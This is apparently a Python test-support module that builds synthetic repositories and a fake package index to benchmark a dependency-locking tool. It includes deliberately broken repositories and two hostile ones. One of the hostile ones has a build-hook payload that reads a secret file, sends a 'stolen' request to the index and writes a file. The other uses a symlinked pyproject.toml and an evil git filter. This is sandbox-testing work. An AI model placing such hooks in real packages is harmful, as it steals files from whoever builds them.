"""The repositories of the fleet's benchmark, and the index that they use.

Five shapes take turns: PEP 621 with few and with many dependencies, requirements files, Poetry, workspaces (as many as are named; the
other ones are PEP 621), setup.cfg. Then there are broken repositories, each kind in turn, and two hostile ones.
"""

import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

from tests.support.fleet_repositories import Made, commit_files
from tests.support.scenario_server import Releases

LIBRARIES = 58
DYNAMIC = 9
"""Each ninth library is an sdist whose dependencies only its build hook knows."""
MINOR = f"3.{sys.version_info.minor}"
SETTINGS = f'python-versions = ["{MINOR}"]\nplatforms = ["host"]\n'
TOOL = f"[tool.deep-lock]\n{SETTINGS}"
PROJECT = '[project]\nname = "{name}"\nversion = "1"\ndependencies = {requires}\n'
POETRY = '[tool.poetry]\nname = "{name}"\nversion = "1.0.0"\ndescription = ""\nauthors = []\n\n[tool.poetry.dependencies]\npython = ">=3.11"\n'
SETUP_CFG = "[metadata]\nname = {name}\nversion = 1\n\n[options]\ninstall_requires =\n{requires}"
TEXT_OF_WORKER = "the-text-of-a-file-of-the-worker"
"""In a file that hostile repositories try to read."""
BACKEND = """
import os
{code}
def get_requires_for_build_wheel(config_settings=None):
    return []
def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    folder = "{module}-{version}.dist-info"
    os.mkdir(os.path.join(metadata_directory, folder))
    lines = ["Metadata-Version: 2.1", "Name: {name}", "Version: {version}"] + {requires}
    with open(os.path.join(metadata_directory, folder, "METADATA"), "w") as file:
        file.write("\\n".join(lines) + "\\n")
    return folder
"""
ATTACK = """
import socket
requires = []
try:
    requires.append("Requires-Dist: " + open("{secret}").read())
except OSError:
    pass
try:
    socket.create_connection({address}, 2).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
except OSError:
    pass
try:
    open("{secret}.written", "w").close()
except OSError:
    pass
"""
"""What the build hook of a hostile repository tries: to read a file, to connect to the index, to write a file."""


def releases() -> Releases:
    """Return the libraries of the index: each requires one or two later ones, and each third is an sdist that must be built."""
    found: dict[str, Mapping[str, object]] = {
        "poetry-core 2.1.0": {},
        "setuptools 80.9.0": {},
        "fails 1.0": _sdist("fails", "1.0", [], code='raise OSError("this hook fails")'),
    }
    for number in range(LIBRARIES):
        requires = [_library(later) for later in (number + 4, number + 9) if later < LIBRARIES]
        for version in ("1.0", "1.1", "2.0"):
            if number % DYNAMIC == DYNAMIC - 1:
                found[f"{_library(number)} {version}"] = _sdist(_library(number), version, requires)
            elif number % 3 == 2:
                sdist = {"wheels": [], "sdist": True, "build": ["poetry-core"], "backend": "poetry.core.masonry.api"}
                found[f"{_library(number)} {version}"] = {"requires": requires, **sdist}
            else:
                found[f"{_library(number)} {version}"] = {"requires": requires, "sdist": number % 2 == 0}
    return found


def _library(number: int) -> str:
    return f"library{number}"


def _sdist(name: str, version: str, requires: list[str], *, code: str = "") -> Mapping[str, object]:
    """Return a release that has its own backend, and dependencies that only the hook returns."""
    lines = [f"Requires-Dist: {text}" for text in requires]
    backend = BACKEND.format(name=name, module=name, version=version, requires=lines, code=code)
    return {
        "wheels": [],
        "sdist": True,
        "dynamic": ["Requires-Dist"],
        "build": [],
        "backend": "own",
        "backend-path": ["."],
        "tree": {"own.py": backend},
    }


def make_repositories(
    folder: Path, number: int, *, secret: Path, address: tuple[str, int], seed: str, workspaces: int, broken: int
) -> Made:
    """Make so many git repositories.

    ``seed`` is a lock of ``requirements.in``: those with requirements files have it, and their requirements are newer. ``secret`` is a
    file, and ``address`` the index, which the hostile ones try to use.
    """
    hostile = ("hostile0", "hostile1")
    good = tuple(f"app{at:04}" for at in range(number - workspaces - broken - len(hostile)))
    made = Made(
        folder=folder,
        good=good,
        workspaces=tuple(f"workspace{at}" for at in range(workspaces)),
        broken=tuple(f"broken{at}" for at in range(broken)),
        hostile=hostile,
    )
    for at, name in enumerate(good):
        commit_files(folder / name, dict(_shape(at, name, seed)))
    for at, name in enumerate(made.workspaces):
        commit_files(folder / name, dict(_workspace(at, name)))
    for at, name in enumerate(made.broken):
        commit_files(folder / name, _broken(at, name, seed))
    commit_files(folder / hostile[0], {"deep.lock": "x" * 1000}, link=("pyproject.toml", str(secret)))
    attack = BACKEND.format(
        name="app",
        module="app",
        version="1",
        requires="requires",
        code=ATTACK.format(secret=secret.as_posix(), address=address),
    )
    system = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n'
    text = f'[project]\nname = "app"\nversion = "1"\ndynamic = ["dependencies"]\n{system}{TOOL}'
    commit_files(folder / hostile[1], {"pyproject.toml": text, "own.py": attack, ".gitattributes": "* filter=evil\n"})
    return made


def _requires(at: int, number: int) -> list[str]:
    return sorted({_library((at * 7 + own * 11) % LIBRARIES) for own in range(number)})


def _project(name: str, requires: list[str]) -> str:
    return PROJECT.format(name=name, requires=requires)


def _shape(at: int, name: str, seed: str) -> Iterator[tuple[str, str]]:
    few, many = _requires(at, 1 + at % 3), _requires(at, 12 + at % 9)
    match at % 5:
        case 0:
            yield "pyproject.toml", _project(name, few) + TOOL
        case 1:
            groups = f"[dependency-groups]\ndev = {few}\n"
            yield "pyproject.toml", _project(name, many) + groups + TOOL
        case 2:
            yield "requirements.in", "".join(f"{own}>=1.0\n" for own in few) + "-r more.in\n"
            yield "more.in", f"{_library(at % LIBRARIES)}<2\n"
            yield "deep.lock", seed
        case 3:
            table = "".join(f'{own} = "^1.0"\n' for own in few)
            yield "pyproject.toml", POETRY.format(name=name) + table + TOOL
        case _:
            requires = "".join(f"    {own}>=1.0\n" for own in few)
            yield "setup.cfg", SETUP_CFG.format(name=name, requires=requires)
            yield "deep-lock.toml", SETTINGS


def _workspace(at: int, name: str) -> Iterator[tuple[str, str]]:
    yield "pyproject.toml", _project(name, ["library0"]) + '[tool.uv.workspace]\nmembers = ["packages/*"]\n' + TOOL
    for member in ("one", "two", "three"):
        yield f"packages/{member}/pyproject.toml", _project(f"{name}-{member}", _requires(at + len(member), 3))


def _broken(at: int, name: str, seed: str) -> Mapping[str, str]:
    """Return the files of a repository that is broken, in a way that depends on its number."""
    kinds: tuple[Mapping[str, str], ...] = (
        {"pyproject.toml": "[tool.deep-lock\n"},  # no TOML
        {"pyproject.toml": _project(name, ["library0>9"]) + TOOL},  # no such version
        {"pyproject.toml": _project(name, ["no-such-project"]) + TOOL},  # no page on the index
        {"pyproject.toml": _project(name, ["library0 => 1"]) + TOOL},  # no requirement
        {"pyproject.toml": _project(name, []) + TOOL + 'pythn-versions = ["3.12"]\n'},  # an unknown key
        {"README.md": "no project"},
        {"pyproject.toml": _project(name, ["library0"]) + TOOL, "deep.lock": "<<<<<<< ours\n"},  # a merge conflict
        {"requirements.in": "-r missing.in\n", "deep.lock": seed},
        {"pyproject.toml": _project(name, ["library0<2", "library0>=2"]) + TOOL},  # a conflict
        {"pyproject.toml": _project(name, ["fails"]) + TOOL + "require-evidence = true\n"},  # a build hook that fails
    )
    return kinds[at % len(kinds)]
